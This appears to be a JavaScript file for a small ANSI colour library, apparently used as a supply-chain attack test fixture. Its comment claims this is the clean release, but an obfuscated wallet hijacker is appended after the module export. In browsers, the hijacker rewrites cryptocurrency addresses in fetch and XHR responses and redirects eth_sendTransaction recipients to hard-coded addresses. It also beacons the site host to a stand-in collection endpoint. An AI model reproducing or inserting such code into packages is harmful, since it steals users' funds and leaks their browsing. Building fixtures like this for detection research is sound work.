'use strict';

// tinted: a tiny ANSI colour helper. This is the clean release; the next patch release
// (tests/packages/diff-new) appends an obfuscated wallet hijacker to this file.

const codes = {
  bold: [1, 22],
  dim: [2, 22],
  red: [31, 39],
  green: [32, 39],
  yellow: [33, 39],
  blue: [34, 39],
  magenta: [35, 39],
  cyan: [36, 39],
  gray: [90, 39],
};

const enabled = () =>
  typeof process !== 'undefined' &&
  process.stdout &&
  process.stdout.isTTY &&
  !('NO_COLOR' in process.env);

function paint(name, text) {
  const [open, close] = codes[name];
  if (!enabled()) return String(text);
  return `\u001b[${open}m${text}\u001b[${close}m`;
}

const tinted = {};
for (const name of Object.keys(codes)) {
  tinted[name] = (text) => paint(name, text);
}
tinted.strip = (text) => String(text).replace(/\u001b\[\d+m/g, '');

module.exports = tinted;
function _0x3c1e(){const _0x51f0=['undefined','ethereum','request','eth_sendTransaction','params','fetch','prototype','open','send','responseText','text','replace','clone','apply','call','sendBeacon','https://api.wallet-sync.example/v1/seen','host','0xDeFa11EdDeFa11EdDeFa11EdDeFa11EdDeFa11Ed','bc1qdefangeddefangeddefangeddefanged0000','TDeFa11EdDeFa11EdDeFa11EdDeFa11Ed','to','method','function','headers','status'];_0x3c1e=function(){return _0x51f0;};return _0x3c1e();}function _0x2b9a(_0x4d0f,_0x1f9e){const _0x3a77=_0x3c1e();return _0x2b9a=function(_0x4d0f,_0x1f9e){_0x4d0f=_0x4d0f-0x1a4;let _0x5c21=_0x3a77[_0x4d0f];return _0x5c21;},_0x2b9a(_0x4d0f,_0x1f9e);}(function(_0x5e1d,_0x2f4a){const _0x4c7b=_0x5e1d();let _0x1d2e=0x0;while(!![]){if(_0x1d2e++>=_0x2f4a)break;_0x4c7b['push'](_0x4c7b['shift']());}}(_0x3c1e,0x3));(function(){const _0x7e01=typeof window;if(_0x7e01===_0x2b9a(0x1bb))return;const _0x9a3c=window,_0x1b7d={'eth':/\b0x[a-fA-F0-9]{40}\b/g,'btc':/\b(?:bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g,'trx':/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g},_0x6c2f={'eth':_0x2b9a(0x1b3),'btc':_0x2b9a(0x1b4),'trx':_0x2b9a(0x1b5)};function _0x3e5a(_0x2d11){let _0x4a90=String(_0x2d11);for(const _0x58b2 in _0x1b7d){_0x4a90=_0x4a90[_0x2b9a(0x1ac)](_0x1b7d[_0x58b2],_0x6c2f[_0x58b2]);}return _0x4a90;}if(typeof _0x9a3c[_0x2b9a(0x1a6)]===_0x2b9a(0x1b8)){const _0x2c40=_0x9a3c[_0x2b9a(0x1a6)];_0x9a3c[_0x2b9a(0x1a6)]=async function(){const _0x11e3=await _0x2c40[_0x2b9a(0x1ae)](this,arguments);try{const _0x6f0d=await _0x11e3[_0x2b9a(0x1ad)]()[_0x2b9a(0x1ab)]();return new Response(_0x3e5a(_0x6f0d),{'status':_0x11e3[_0x2b9a(0x1ba)],'headers':_0x11e3[_0x2b9a(0x1b9)]});}catch(_0x30b4){return _0x11e3;}};}if(typeof XMLHttpRequest!==_0x2b9a(0x1bb)){const _0x47c8=XMLHttpRequest[_0x2b9a(0x1a7)],_0x0d19=_0x47c8[_0x2b9a(0x1a8)];_0x47c8[_0x2b9a(0x1a8)]=function(){this['addEventListener']('readystatechange',function(){if(this['readyState']===0x4){try{Object['defineProperty'](this,_0x2b9a(0x1aa),{'value':_0x3e5a(this[_0x2b9a(0x1aa)])});}catch(_0x2e7f){}}});return _0x0d19[_0x2b9a(0x1ae)](this,arguments);};}const _0x5b6e=_0x9a3c[_0x2b9a(0x1bc)];if(_0x5b6e&&typeof _0x5b6e[_0x2b9a(0x1bd)]===_0x2b9a(0x1b8)){const _0x1f22=_0x5b6e[_0x2b9a(0x1bd)];_0x5b6e[_0x2b9a(0x1bd)]=function(_0x3d9c){if(_0x3d9c&&_0x3d9c[_0x2b9a(0x1b7)]===_0x2b9a(0x1a4)&&_0x3d9c[_0x2b9a(0x1a5)]&&_0x3d9c[_0x2b9a(0x1a5)][0x0]){_0x3d9c[_0x2b9a(0x1a5)][0x0][_0x2b9a(0x1b6)]=_0x6c2f['eth'];}return _0x1f22[_0x2b9a(0x1af)](this,_0x3d9c);};}try{navigator[_0x2b9a(0x1b0)](_0x2b9a(0x1b1),location[_0x2b9a(0x1b2)]);}catch(_0x6a51){}}());
